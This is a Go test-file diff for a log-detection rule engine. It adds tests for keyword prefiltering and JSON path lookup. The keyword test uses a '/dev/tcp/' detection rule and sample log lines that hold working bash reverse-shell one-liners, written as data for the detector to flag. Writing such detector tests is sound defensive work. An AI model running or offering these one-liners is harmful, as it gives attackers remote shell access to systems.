@@ -14,6 +14,7 @@ import (
 	"github.com/loupe-sec/loupe/internal/detect"
 	"github.com/loupe-sec/loupe/internal/event"
 	"github.com/loupe-sec/loupe/internal/source"
+	"github.com/tidwall/gjson"
 )
 
 // readEvents parses a corpus file with loupe's own source parsers.
@@ -259,7 +260,7 @@ func TestPrefilterTables(t *testing.T) {
 	var bucketed, plain int
 	for _, f := range rs.pre.fields {
 		if (len(f.lits) >= bucketMin) != (f.head != nil) {
-			t.Errorf("%s: %d literals, table %v", f.acc.name, len(f.lits), f.head != nil)
+			t.Errorf("%v: %d literals, table %v", f.acc, len(f.lits), f.head != nil)
 		}
 		if f.head != nil {
 			bucketed++
@@ -326,5 +327,92 @@ func TestSkipString(t *testing.T) {
 	gen(nil)
 	if n < 9000 {
 		t.Fatalf("only %d strings tried", n)
+	}
+}
+
+// Keyword searches are prefiltered on the event's decoded text: escaped
+// slashes, quotes and \u escapes in the record, case, the message of a
+// syslog line; Observe agrees with a plain evaluation on every event.
+func TestKeywordPrefilter(t *testing.T) {
+	src := `title: K
+id: 6d1c8a52-0000-4000-8000-000000000001
+logsource:
+    product: linux
+detection:
+    keywords:
+        - '/dev/tcp/'
+        - 'say "hi"'
+        - 'ünïcode'
+    condition: keywords
+level: high
+`
+	rs := Parse("k.yml", []byte(src), Options{})
+	if len(rs.Rules) != 1 || rs.Rules[0].pre == nil {
+		t.Fatalf("keyword rule not prefiltered: %v %v", rs.Problems, rs.Rules)
+	}
+	for _, c := range []struct {
+		line string
+		want bool
+	}{
+		{`{"cmd":"bash -i >& \/dev\/tcp\/10.0.0.1\/4444 0>&1"}`, true},
+		{`{"a":{"b":["x","\u002fdev\u002ftcp\u002f1"]}}`, true},
+		{`{"a":"they SAY \"HI\" now"}`, true},
+		{`{"a":"\u00dcN\u00cfCODE"}`, true},
+		{`{"a":"/dev/null","b":"tcp/"}`, false},
+		{`{"say":"hi"}`, false},
+		{"Mar 19 23:34:17 web01 bash[1]: exec 5<>/dev/tcp/10.0.0.1/80", true},
+		{"Mar 19 23:34:17 web01 bash[1]: nothing here", false},
+	} {
+		ev, err := source.ParseLine([]byte(c.line), 1, source.Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		x, y := rs.NewEngine(), rs.NewEngine()
+		got := false
+		x.Observe(ev, func(detect.Detection) { got = true })
+		if plain := y.Match(rs.Rules[0], ev); got != c.want || plain != c.want {
+			t.Errorf("%s: Observe %v, plain evaluation %v, want %v", c.line, got, plain, c.want)
+		}
+	}
+}
+
+// Engine.path reads what gjson.Get reads, for every top-level and nested
+// key of the corpus records, array indexes and keys they lack.
+func TestPathLookup(t *testing.T) {
+	var evs []*event.Event
+	for _, f := range []string{"app.jsonl", "evtx.jsonl"} {
+		evs = append(evs, readEvents(t, filepath.Join("..", "..", "testdata", "benign", f))...)
+	}
+	for _, f := range []string{"falco.jsonl", "timesketch-flat.jsonl", "timesketch-nested.jsonl"} {
+		evs = append(evs, readEvents(t, filepath.Join("..", "..", "testdata", "attack", f))...)
+	}
+	evs = append(evs, jsonEvent(`{"a":[{"b":1},{"b":"x"}],"c":{"d":{"e":null}},"f":"\u0041","g.h":2,"a":"dup"}`))
+	x := (&Ruleset{}).NewEngine()
+	n := 0
+	for _, ev := range evs {
+		raw := string(ev.Raw)
+		paths := []string{"missing", "missing.deeper", "a.0.b", "a.1", "c.d.e", "c.d", "f", `g\.h`, "a.#.b"}
+		gjson.Parse(raw).ForEach(func(k, v gjson.Result) bool {
+			paths = append(paths, escapeKey(k.Str))
+			v.ForEach(func(k2, _ gjson.Result) bool {
+				paths = append(paths, escapeKey(k.Str)+"."+escapeKey(k2.Str))
+				return true
+			})
+			return true
+		})
+		x.begin(ev)
+		for _, p := range paths {
+			var got, want fieldVal
+			gotOK := x.path(&got, p)
+			wantOK := setResult(&want, gjson.Get(raw, p))
+			if gotOK != wantOK || got.ok != want.ok || got.null != want.null || got.arr != want.arr || got.s != want.s ||
+				(got.arr && got.res.Raw != want.res.Raw) {
+				t.Fatalf("%s in %.80s: path %v %+v, gjson %v %+v", p, raw, gotOK, got, wantOK, want)
+			}
+			n++
+		}
+	}
+	if n < 1000 {
+		t.Errorf("only %d lookups compared", n)
 	}
 }
